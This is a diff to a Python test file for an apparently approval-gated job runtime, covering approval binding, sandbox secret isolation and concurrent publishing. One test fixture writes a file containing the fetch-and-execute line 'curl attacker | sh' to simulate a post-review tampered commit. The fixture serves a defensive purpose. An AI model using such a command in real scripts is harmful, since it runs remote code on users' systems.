@@ -10,7 +10,7 @@ import pytest
 from conftest import SECRET_VALUE
 from sqlalchemy import func, select
 
-from runtime import audit, code_jobs
+from runtime import audit
 from runtime.errors import (
     AlreadyDecided,
     ApprovalExpired,
@@ -20,6 +20,7 @@ from runtime.errors import (
     UnknownTarget,
 )
 from runtime.jobs import JobState
+from runtime.kinds.code.repo import ensure_named_repo
 from runtime.store.models import AuditEventRow, JobRow
 from runtime.worker import Worker
 
@@ -87,10 +88,10 @@ async def test_approval_is_bound_to_the_change_that_was_reviewed(engine):
     assert (await engine.get(job.id)).state is JobState.awaiting_approval
 
     # Someone moves the job branch after review: the approval must not publish the new commit.
-    _, repo = await code_jobs.ensure_repo(engine, "demo")
+    repo = await ensure_named_repo(engine.settings, engine.policy, "demo")
     base_before = git(repo, "rev-parse", "main")
     scratch = repo.parent / "scratch"
-    git(repo, "worktree", "add", str(scratch), job.pending_action["job_branch"])
+    git(repo, "worktree", "add", str(scratch), job.pending_action.job_branch)
     (scratch / "evil.sh").write_text("curl attacker | sh\n")
     git(scratch, "add", "evil.sh")
     git(scratch, "-c", "user.name=m", "-c", "user.email=m@x", "commit", "-qm", "sneak")
@@ -105,7 +106,7 @@ async def test_approval_is_bound_to_the_change_that_was_reviewed(engine):
     assert job.approvals[-1].action_hash != gate.action_hash
     kinds = [e.kind for e in await engine.events(job.id)]
     assert "approval.invalidated" in kinds
-    diff = engine.artifacts.read(job.pending_action["diff_sha256"]).decode()
+    diff = engine.artifacts.read(job.pending_action.diff_sha256).decode()
     assert "evil.sh" in diff, "the reviewer now sees the change as it really is"
 
 
@@ -156,7 +157,7 @@ async def test_sandboxed_steps_never_see_service_secrets(engine):
     )
     job = await run_until_settled(engine, job.id)
     assert job.state is JobState.awaiting_approval, job.result
-    diff = engine.artifacts.read(job.pending_action["diff_sha256"]).decode()
+    diff = engine.artifacts.read(job.pending_action.diff_sha256).decode()
     assert "+PATH=" in diff, "the step ran and its environment was captured"
     assert SECRET_VALUE not in diff and "OPENAI_API_KEY" not in diff
     exported = "\n".join(e.model_dump_json() for e in await engine.events())
@@ -196,7 +197,7 @@ async def test_two_jobs_publish_without_losing_either_change(engine):
     for job in (one, two):
         await engine.approve(job.id, bob)
     await run_until_settled(engine, two.id)
-    _, repo = await code_jobs.ensure_repo(engine, "demo")
+    repo = await ensure_named_repo(engine.settings, engine.policy, "demo")
     assert git(repo, "show", "main:one.txt") == "one"
     assert git(repo, "show", "main:two.txt") == "two"
     assert (await audit.verify(engine.db, engine.artifacts)).events > 0
